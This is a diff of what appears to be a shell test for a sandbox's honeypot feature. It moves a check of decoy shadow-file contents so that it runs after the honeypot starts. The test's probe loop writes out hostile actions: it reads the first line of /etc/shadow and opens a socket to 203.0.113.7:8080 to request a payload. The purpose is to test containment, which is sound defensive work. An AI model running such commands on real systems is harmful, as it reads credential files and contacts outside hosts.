@@ -238,18 +238,18 @@ for i in range(400):
       echo \"shadow: \$(head -n 1 /etc/shadow)\"
       $PY -c 'import socket; s = socket.create_connection((\"203.0.113.7\", 8080), timeout=1); s.sendall(b\"GET /payload-act HTTP/1.0\\r\\n\\r\\n\"); print(\"connect-ok\")' 2>/dev/null || echo connect-fail
       echo tick; i=\$((i+1)); sleep 0.1; done"
-  decoy=$(head -n 1 "$WARD_ROOT/act-h1/probe/decoys/shadow")
-  [ "$(head -n 1 /etc/shadow)" != "$decoy" ]
   # positive control: the sandbox's user cannot read the real file, and
   # has no route out
   wait_for "$TEST_TMP/act-h1.out" connect-fail
   grep -q "^shadow: $" "$TEST_TMP/act-h1.out"
-  ! grep -q "^shadow: $decoy" "$TEST_TMP/act-h1.out"
   run w action act-h1 honeypot
   echo "$output"
   [ "$status" -eq 0 ]
   [[ "$output" == *"started the honeypot sink"* ]]
   [[ "$output" == *"sink: 127.0.0.1:"* ]]
+  # the decoys are written when honeypot is first entered
+  decoy=$(head -n 1 "$WARD_ROOT/act-h1/probe/decoys/shadow")
+  [ -n "$decoy" ] && [ "$(head -n 1 /etc/shadow)" != "$decoy" ]
   n=$(wc -l < "$TEST_TMP/act-h1.out")
   after=$(lines_after "$TEST_TMP/act-h1.out" "$n")
   echo "after honeypot: $after"
